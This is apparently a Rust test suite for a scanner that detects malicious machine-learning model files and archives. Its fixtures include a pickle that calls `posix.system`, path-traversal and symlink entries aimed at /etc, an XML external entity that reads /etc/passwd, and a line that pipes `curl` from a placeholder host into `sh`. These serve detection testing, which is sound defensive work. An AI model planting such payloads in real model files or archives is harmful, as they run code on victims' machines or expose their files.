//! What lies in containers of every kind, and what cannot be seen of them: one table a class, through whole runs.

use crate::audit;
use wellhead_core::Severity;
use wellhead_engine::Options;
use wellhead_formats::assemble::assemble;

/// `rule severity` of everything that was found, each once, in a stable order.
fn told(name: &str, bytes: &[u8]) -> String {
    let report = audit(&[(name, bytes)], &Options::default());
    let mut all: Vec<_> = report
        .findings
        .iter()
        .map(|f| format!("{} {}", f.rule, f.severity))
        .collect();
    all.sort();
    all.dedup();
    all.join(", ")
}

fn messages(name: &str, bytes: &[u8]) -> Vec<String> {
    let report = audit(&[(name, bytes)], &Options::default());
    report.findings.iter().map(|f| f.message.clone()).collect()
}

fn worst(name: &str, bytes: &[u8]) -> Option<Severity> {
    let report = audit(&[(name, bytes)], &Options::default());
    report.findings.iter().map(|f| f.severity).max()
}

const CALL: &str = "PROTO 2\nGLOBAL 'posix system'\nSHORT_BINUNICODE 'true'\nTUPLE1\nREDUCE\nSTOP\n";

fn indent(text: &str) -> String {
    text.lines().map(|l| format!("  {l}\n")).collect()
}

fn pickle() -> Vec<u8> {
    assemble("pickle", CALL).unwrap()
}

fn zip(listing: &str) -> Vec<u8> {
    assemble("zip", listing).unwrap()
}

fn checkpoint() -> String {
    format!(
        "member m/data.pkl as=pickle\n{}member m/version\n  3\n",
        indent(CALL)
    )
}

/// C09, C10: the call is found in whatever it is packed, under whatever name.
#[test]
fn a_call_is_found_in_archives_of_every_kind() {
    let member = format!("file d/model.bin as=pickle\n{}", indent(CALL));
    let seven = |options: &str| assemble("7z", &format!("folder {options}\n{member}end packed\n")).unwrap();
    let zstd = {
        // One frame of one raw block.
        let data = pickle();
        let mut out = b"\x28\xb5\x2f\xfd\x20".to_vec();
        out.push(data.len() as u8);
        out.extend_from_slice(&((data.len() as u32) << 3 | 1).to_le_bytes()[..3]);
        out.extend(data);
        out
    };
    let tar = assemble("tar", &member).unwrap();
    let ar = {
        let data = pickle();
        let head = format!(
            "{:<16}{:<12}{:<6}{:<6}{:<8}{:<10}`\n",
            "model.pkl/",
            0,
            0,
            0,
            644,
            data.len()
        );
        [b"!<arch>\n".to_vec(), head.into_bytes(), data].concat()
    };
    let nested = zip(&format!("member a.bin as=7z\n  folder\n{}", indent(&member)));
    for (name, bytes) in [
        ("m.7z", seven("")),
        ("model.pt", seven("")),
        ("pytorch_model.bin", seven("method=delta")),
        ("m.pkl.zst", zstd.clone()),
        ("model.joblib", zstd),
        ("m.tar", tar),
        ("m.deb", ar),
        ("nested.zip", nested),
    ] {
        let found = messages(name, &bytes);
        assert!(
            found.iter().any(|m| m == "loading this file runs `posix.system`"),
            "{name}: {found:?}"
        );
    }
}

/// C20, and archives that are not decoded: high where a name says that a model may be in it, and never silence.
#[test]
fn what_cannot_be_seen_is_said() {
    let seven = |options: &str, name: &str| {
        assemble("7z", &format!("folder {options}\nfile {name}\n  xxxxxxxx\n")).unwrap()
    };
    let sealed = assemble("7z", "folder\nfile a.txt\n  x\nend packed method=06f10701\n").unwrap();
    let rar = b"Rar!\x1a\x07\x01\0\0\0\0\0\x03\x04\0\0".to_vec();
    let high = "not-fully-analysed high";
    for (name, bytes, found) in [
        ("a.7z", seven("method=06f10701", "model.pkl"), high),
        ("a.7z", seven("method=06f10701", "notes.txt"), ""),
        ("model.pt", seven("method=06f10701", "notes.txt"), high),
        ("a.7z", seven("method=030401", "weights.bin"), high),
        ("a.7z", sealed.clone(), "not-fully-analysed medium"),
        ("model.bin", sealed, high),
        ("a.rar", rar.clone(), "not-fully-analysed medium"),
        ("model.pkl.rar", rar.clone(), high),
        ("checkpoint.ckpt", rar, high),
        ("model.pth", b"hsqs\0\0\0\0".to_vec(), high),
        ("model.bin", b"MSCF\0\0\0\0".to_vec(), high),
        (
            "a.zip",
            zip("member m.pkl flags=0x1 crc=0x1 as=hex\n  11223344556677889900\n"),
            high,
        ),
        (
            "a.zip",
            zip("member a.txt flags=0x1 crc=0x1 as=hex\n  11223344556677889900\n"),
            "",
        ),
        ("a.zip", zip("member m.pkl method=9\n  x\n"), high),
    ] {
        assert_eq!(told(name, &bytes), found, "{name}");
    }
}

/// C15: names and links that lead outside, whatever the container.
#[test]
fn names_that_lead_outside_are_found_in_every_container() {
    let seven = |listing: &str| assemble("7z", &format!("folder\n{listing}")).unwrap();
    let tar = |listing: &str| assemble("tar", listing).unwrap();
    let high = "archive-path-traversal high";
    for (name, bytes, found) in [
        ("a.7z", seven("file ../x.py\n  x\n"), high),
        (
            "a.7z",
            seven("file l mode=0o120777 no-newline\n  /etc/passwd\n"),
            "archive-path-traversal medium",
        ),
        ("a.7z", seven("file aux.txt\n  x\n"), "archive-path-traversal low"),
        (
            "a.7z",
            seven("file A.txt\n  x\nfile a.txt\n  y\n"),
            "archive-path-traversal low",
        ),
        ("a.nemo", tar("file ../../x.py\n  x\n"), high),
        ("a.tar", tar("file /etc/cron.d/x\n  x\n"), high),
        (
            "a.tar",
            tar("symlink l link=/etc\n"),
            "archive-path-traversal medium",
        ),
        (
            "a.tar",
            tar("hardlink l link=../../x\n"),
            "archive-path-traversal medium",
        ),
        ("a.tar", tar("device null\n"), "archive-path-traversal medium"),
        (
            "m.mar",
            zip("member MAR-INF/MANIFEST.json\n  {}\nmember ../x.py\n  x = 1\n"),
            high,
        ),
        (
            "m.skops",
            zip("member schema.json\n  {}\nmember ..\\\\1.npy\n  x\n"),
            high,
        ),
        ("a.zip", zip("member a/b.txt\n  x\n"), ""),
        (
            "a.7z",
            seven("file a/b.txt\n  x\nfile lib/l mode=0o120777 no-newline\n  ../a\n"),
            "",
        ),
    ] {
        let told = told(name, &bytes);
        let of_rule: Vec<_> = told
            .split(", ")
            .filter(|t| t.starts_with("archive-path"))
            .collect();
        assert_eq!(of_rule.join(", "), found, "{name}");
    }
}

/// S33: each reading of a file that is two things, by what it would run.
#[test]
fn files_that_are_two_things_are_judged_as_both() {
    let archive = zip(&checkpoint());
    let harmless = assemble("pickle", "PROTO 2\nNONE\nSTOP").unwrap();
    let elf = [b"\x7fELF\x02\x01\x01".to_vec(), vec![0; 57]].concat();
    let mut pe = [
        b"MZ".to_vec(),
        vec![0; 58],
        64_u32.to_le_bytes().to_vec(),
        b"PE\0\0".to_vec(),
    ]
    .concat();
    pe.extend([0; 100]);
    let gguf = [b"GGUF\x03\0\0\0".to_vec(), vec![0; 48]].concat();
    let tar = assemble("tar", "file a.txt\n  x\n").unwrap();
    for (name, head) in [
        ("m.pkl", harmless),
        ("m.llamafile", elf),
        ("m.exe", pe),
        ("m.gguf", gguf),
        ("m.tar", tar),
        ("m.pdf", b"%PDF-1.4\n%\n".to_vec()),
        ("m.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec()),
    ] {
        let found = messages(name, &[head, archive.clone()].concat());
        assert!(
            found.iter().any(|m| m == "loading this file runs `posix.system`"),
            "{name}: {found:?}"
        );
    }
    let behind = messages(
        "m.pt",
        &[zip("member m/data.pkl as=hex\n  80024e2e\n"), pickle()].concat(),
    );
    assert!(behind.iter().any(|m| m.contains("posix.system")), "{behind:?}");
}

/// F12: what TorchScript and exported programs run.
#[test]
fn torch_programs_are_judged_by_their_operators() {
    let script = |line: &str| {
        zip(&format!(
            "member m/data.pkl as=pickle\n  PROTO 2\n  GLOBAL '__torch__ M'\n  EMPTY_TUPLE\n  NEWOBJ\n  EMPTY_DICT\n  BUILD\n  \
             STOP\nmember m/version\n  3\nmember m/code/__torch__.py\n  class M(Module):\n    def forward(self: __torch__.M, x: \
             Tensor) -> Tensor:\n      {line}\n      return x\n"
        ))
    };
    for (line, found) in [
        ("y = torch.add(x, x)", ""),
        ("y = ops.torchvision.nms(x, x, 0.5)", ""),
        ("torch.save(x, \"/tmp/x\")", "unsafe-model-operator critical"),
        (
            "y = torch.from_file(\"/etc/passwd\", False, 9)",
            "unsafe-model-operator high",
        ),
        ("y = ^Function()(x)", "unsafe-model-operator critical"),
        ("y = ops.mylib.run(x)", "unknown-model-operator high"),
    ] {
        assert_eq!(told("m.pt", &script(line)), found, "{line}");
    }
    let exported = |target: &str| {
        zip(&format!(
            "member m/archive_format\n  pt2\nmember m/models/model.json\n  {{\"nodes\": [{{\"target\": \"{target}\", \"inputs\": \
             []}}]}}\nmember m/data/weights/weight_0 zeros=64\n"
        ))
    };
    for (target, found) in [
        ("torch.ops.aten.add.Tensor", ""),
        ("torch.ops.mylib.run.default", "unknown-model-operator high"),
        ("torch.serialization.os.system", "unsafe-model-callable critical"),
        ("torch.sym_max", ""),
    ] {
        assert_eq!(told("m.pt2", &exported(target)), found, "{target}");
    }
}

/// F15, F18: what skops takes hold of, and code that an archive brings along for its loader.
#[test]
fn archives_that_carry_code_or_name_it() {
    let skops = |node: &str| zip(&format!("member schema.json\n  {node}\n"));
    let function = |module: &str, class: &str, loader: &str| {
        skops(&format!(
            "{{\"__module__\": \"{module}\", \"__class__\": \"{class}\", \"__loader__\": \"{loader}\"}}"
        ))
    };
    for (node, found) in [
        (
            function("posix", "system", "FunctionNode"),
            Some(Severity::Critical),
        ),
        (
            function("sklearn.linear_model", "call", "OperatorFuncNode"),
            Some(Severity::Critical),
        ),
        (
            function("acme.models", "Model", "ObjectNode"),
            Some(Severity::Medium),
        ),
        (
            function(
                "sklearn.linear_model._logistic",
                "LogisticRegression",
                "ObjectNode",
            ),
            None,
        ),
        (function("builtins", "dict", "DictNode"), None),
    ] {
        assert_eq!(worst("m.skops", &node), found, "{:?}", messages("m.skops", &node));
    }
    assert!(told("m.skops", &pickle()).contains("unsafe-pickle-import critical"));
    let code = "import os\n  os.system('curl https://x.acme.example/x | sh')\n";
    let package = zip(&format!(
        "member p/.data/extern_modules empty\nmember p/m.py\n  {code}"
    ));
    let served = zip(&format!(
        "member MAR-INF/MANIFEST.json\n  {{\"model\": {{\"handler\": \"h.py\"}}}}\nmember h.py\n  {code}"
    ));
    for (name, bytes) in [("m.pt", package), ("m.mar", served)] {
        assert!(
            told(name, &bytes).contains("dangerous-code-in-model-repository critical"),
            "{name}: {:?}",
            messages(name, &bytes)
        );
    }
}

/// F13, F14: XML that opens files, and layers that need a library.
#[test]
fn graphs_as_xml() {
    let net = |prolog: &str, set: &str| {
        format!(
            "<?xml version=\"1.0\"?>\n{prolog}<net name=\"m\" version=\"11\"><layers><layer id=\"0\" name=\"a\" type=\"Add\" version=\"{set}\"/></layers></net>\n"
        )
    };
    let entity = "<!DOCTYPE net [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n";
    for (text, found) in [
        (net("", "opset1"), ""),
        (net("", "extension"), "unknown-model-operator high"),
        (net(entity, "opset1"), "unsafe-xml-entity high"),
    ] {
        assert_eq!(told("m.xml", text.as_bytes()), found);
    }
}
